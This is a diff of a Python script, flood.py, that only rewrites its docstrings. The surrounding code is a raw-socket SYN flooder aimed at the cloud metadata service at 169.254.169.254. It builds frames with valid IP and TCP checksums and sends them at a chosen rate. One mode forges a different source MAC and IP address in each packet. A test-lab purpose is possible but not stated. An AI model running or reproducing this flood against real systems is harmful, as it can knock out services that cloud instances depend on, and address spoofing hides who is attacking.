@@ -1,7 +1,8 @@
-"""``flood.py DEVICE MAC IP RATE SECONDS KIND``: SYNs to the metadata service without end.
+"""``flood.py DEVICE MAC IP RATE SECONDS KIND``: a flood of SYNs to the metadata service.
 
-KIND is ``forged``, another source MAC and address in each, or ``own``: those given, from another
-port in each. Prints how many it has sent. A raw socket and the standard library.
+KIND is ``forged``, with another source MAC and address in each SYN, or ``own``, with the given MAC
+and address and another source port in each. The program prints the number of sent SYNs. It uses a
+raw socket and the standard library.
 """
 
 from __future__ import annotations
@@ -12,21 +13,21 @@ import sys
 import time
 
 DIFFERENT = 0x8000
-"""Frames that are made beforehand, and then sent again and again."""
+"""Number of frames that are built in advance, and then sent again and again."""
 BURSTS = 500
-"""A second."""
+"""Bursts of frames in a second."""
 ROUTER = bytes.fromhex("020000000001")
 
 
 def total(data: bytes) -> int:
-    """RFC 1071, not yet complemented."""
+    """Return the sum of RFC 1071, not yet complemented."""
     words: int = sum(struct.unpack(f"!{len(data) // 2}H", data))
     words = (words >> 16) + (words & 0xFFFF)
     return words + (words >> 16) & 0xFFFF
 
 
 def syn(mac: bytes, source: bytes, target: bytes, port: int) -> bytes:
-    """A SYN with right checksums (RFC 791, 9293)."""
+    """Return a SYN with correct checksums (RFC 791, 9293)."""
     head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, 1, 0, 64, 6, 0, source, target)
     head = head[:10] + struct.pack("!H", ~total(head) & 0xFFFF) + head[12:]
     segment = struct.pack("!HHIIHHHH", port, 80, 1, 0, 5 << 12 | 0x02, 64240, 0, 0)
@@ -36,7 +37,7 @@ def syn(mac: bytes, source: bytes, target: bytes, port: int) -> bytes:
 
 
 def frames(kind: str, mac: bytes, source: bytes, target: bytes) -> list[bytes]:
-    """Those that are sent in turn."""
+    """Return the frames that are sent in turn."""
     if kind == "own":
         return [syn(mac, source, target, 1024 + n) for n in range(DIFFERENT)]
     return [
@@ -51,7 +52,7 @@ def frames(kind: str, mac: bytes, source: bytes, target: bytes) -> list[bytes]:
 
 
 def main() -> None:
-    """Send."""
+    """Send the flood."""
     device, mac, ip, rate, seconds, kind = sys.argv[1:]
     target = socket.inet_aton("169.254.169.254")
     ready = frames(kind, bytes.fromhex(mac.replace(":", "")), socket.inet_aton(ip), target)
